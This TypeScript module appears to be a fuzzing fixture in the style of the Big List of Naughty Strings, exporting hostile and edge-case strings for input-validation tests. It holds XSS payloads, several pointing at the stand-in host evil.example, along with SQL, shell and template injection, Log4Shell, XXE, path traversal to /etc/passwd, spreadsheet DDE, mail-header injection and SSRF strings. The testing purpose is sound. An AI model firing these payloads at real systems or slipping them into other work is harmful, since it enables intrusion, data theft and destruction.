/**
 * Texts that have broken programs before, like the Big List of Naughty Strings. A field must either reject a text or return it
 * unchanged.
 */

/** Each would set `__x`, open a dialog or fetch from a foreign host if it were rendered as markup. */
// prettier-ignore
export const scripts: readonly string[] = [
  '<script>window.__x=1</script>', '<ScRiPt>window.__x=1</sCrIpT>', '<script src=https://evil.example/x.js></script>',
  '"><script>window.__x=1</script>', '</textarea><script>window.__x=1</script>', '</style><script>window.__x=1</script>',
  '</script><script>window.__x=1</script>', '--><script>window.__x=1</script>', ']]><script>window.__x=1</script>',
  '<img src=x onerror=window.__x=1>', '<img src="https://evil.example/pixel.gif">', '"><img src=x onerror=window.__x=1>',
  '" onerror="window.__x=1" x="', "' onerror='window.__x=1' x='", '" onfocus="window.__x=1" autofocus="', '` onerror=window.__x=1', '<svg onload=window.__x=1>',
  '<svg><script>window.__x=1</script></svg>', '<svg><animate onbegin=window.__x=1 attributeName=x></svg>',
  '<svg><a xlink:href="javascript:window.__x=1"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__x=1>', '<iframe src="javascript:parent.__x=1"></iframe>',
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>', '<iframe src="https://evil.example/"></iframe>',
  '<object data="javascript:window.__x=1"></object>', '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url(https://evil.example/x)}</style>', '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>', '<video><source onerror=window.__x=1></video>',
  '<details open ontoggle=window.__x=1>', '<select autofocus onfocus=window.__x=1>',
  '<template><script>window.__x=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.__x=1>">',
  '<a href="javascript:window.__x=1">x</a>', '<a href="data:text/html,<script>opener.__x=1</script>">x</a>',
  'javascript:window.__x=1', 'JaVaScRiPt:window.__x=1', 'java\tscript:window.__x=1', ' javascript:window.__x=1',
  'javascript://example.org/%0Awindow.__x=1', 'data:text/html,<script>window.__x=1</script>',
  'data:image/svg+xml,<svg onload=alert(1)>', 'vbscript:msgbox(1)', 'https://example.org/"onerror="window.__x=1',
  '//evil.example/pixel.gif', 'url(https://evil.example/x)', 'expression(window.__x=1)',
  '{{constructor.constructor("window.__x=1")()}}', '${window.__x=1}', '&lt;script&gt;window.__x=1&lt;/script&gt;',
  '\u003cscript\u003ewindow.__x=1\u003c/script\u003e', '＜script＞window.__x=1＜/script＞',
  '<img src=x onerror\u3000=window.__x=1>', '[x](javascript:window.__x=1)', '![x](https://evil.example/pixel.gif)',
];

// prettier-ignore
const programs: readonly string[] = [
  // SQL
  "'", '"', "' or 1=1 --", "' or '1'='1", '1; drop table animals --', "'; drop table users; --", "1' and pg_sleep(5) --",
  "' || (select version()) || '", "\\'; select 1 --", '$$', '$1', ':name', "x' and randomblob(100000000) --",
  "'; attach database '/tmp/x' as y; --", '%', '_', '\\%', '*', 'NEAR(a b)', 'a OR', 'NOT', 'a:b', '(',
  // Templates, formats, shells, paths, other languages
  '{{7*7}}', '${7*7}', '<%= 7*7 %>', '${jndi:ldap://evil.example/a}', '%s', '%n', '%99999999999s', '{0}', '$&', '$<name>',
  '\\1', '\\u0000', '%00', '\\', '/', '; ls -la', '`id`', '$HOME', '~', '() { :;}; echo x', '../../../../etc/passwd',
  '..\\..\\windows\\win.ini', 'file:///etc/passwd', '\\\\evil.example\\share', '%2e%2e%2f', 'CON', 'aux.txt',
  '*)(uid=*))(|(uid=*', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '<![CDATA[',
  '{"$gt":""}', '__proto__', 'constructor', 'toString', 'then', 'toJSON', '{"__proto__":{"role":"admin"}}',
  // Spreadsheets and mail
  '=1+1', '=HYPERLINK("https://evil.example")', '@SUM(1)', "=cmd|' /C calc'!A0", ',', '"a""b"', 'a\r\nb', "'=1",
  'x\r\nBcc: all@evil.example', 'a@b.c?bcc=x@evil.example', '"a" <b@evil.example>', '\r\n\r\n<html>', '\n.\n',
  // Words that become something else
  'null', 'undefined', 'true', 'NaN', 'Infinity', 'N/A', '#REF!', '[object Object]', 'select', 'admin', '0', '-0', '-1',
  '1,000', '1.000,00', '1e3', '1e400', '0x10', '٠١٢', '１２３', '½', '9007199254740993', '2147483648', '1/0', '1..2', '.5', '$5',
  '12.345', '2026-02-30', '9999-12-31', '-000001-01-01', '02/03/2026', '2026-01-01T00:00:00Z', '1979-12-31',
  'https://user:pass@evil.example/', 'https://[::1]/', 'https://example.org:99999/', 'https://\u0430pple.com/',
  'http://169.254.169.254/', 'https://example.org/\u202Egnp.exe', 'blob:https://a/b', 'https:/\\evil.example',
];

// prettier-ignore
const people: readonly string[] = [
  "O'Brien", 'Zoë', 'İstanbul', 'ıI', 'Straße', 'ﬁ', 'Ω', 'Ω', 'é', 'e\u0301', 'Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤',
  '田中さんにあげて下さい', 'ﾊﾟﾋﾟ', 'مُنَاقَشَةُ', 'עברית', 'हिन्दी', 'Русский', '𝕋𝕙𝕖', '𠜎𠜱𠝹𠱓', '𐐜', 'ǅ', 'ß', '🐐', '👩‍🌾', '👨‍👩‍👧‍👦',
  '🏳️‍🌈', '🇳', '👍🏿', '❤️', '🐐'.repeat(30), '👨‍👩‍👧‍👦'.repeat(12), '¯\\_(ツ)_/¯', '﷽', 'ﷺ', '𒐫',
];

const fromCode = (code: number): string => String.fromCodePoint(code);
const range = (from: number, to: number): number[] => Array.from({ length: to - from + 1 }, (_, index) => from + index);

const noncharactersAndTags = [0x2800, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0x1d173, 0x1fffe, 0xe0001, 0xe0020, 0xe007f, 0x10ffff];

/** Every control, space, direction mark and invisible character, some noncharacters and tags, inside a text and at its start. */
const invisible = [
  ...range(0, 0xffff).filter((code) => /[\p{Cc}\p{Cf}\p{Z}\p{Default_Ignorable_Code_Point}]/u.test(fromCode(code))),
  ...noncharactersAndTags,
].flatMap((code) => [`a${fromCode(code)}b`, `${fromCode(code)}ab`]);

// prettier-ignore
const broken: readonly string[] = [
  '', ' ', '   ', '\t', '\n', '\r\n', '\u0000', 'a\u0000', '\u0000a', '\uD800', '\uDFFF', 'a\uD83D', '\uDC10a', '\uDC10\uD83D',
  '\uD83D\uD83D\uDC10', '\uFEFF', '\u202Egpj.exe', '\u2066\u2067\u2068\u2069', 'a\u200Bb', '\u200D', '\u0301', '\u0301\u0301',
  'Pay\u202Elap', '\u2029', '\u2028',
];

/** Just below, at and above every limit, in characters of one, two and several code units. */
const long = [39, 40, 41, 64, 65, 99, 100, 101, 255, 256, 257, 500, 501, 2000, 2001, 2048, 2049, 10_000].flatMap((length) => [
  'x'.repeat(length),
  '🐐'.repeat(length),
  'e\u0301'.repeat(Math.floor(length / 2)),
]);

export const naughtyStrings: readonly string[] = [
  ...new Set([...broken, ...scripts, ...programs, ...people, ...invisible, ...long]),
];
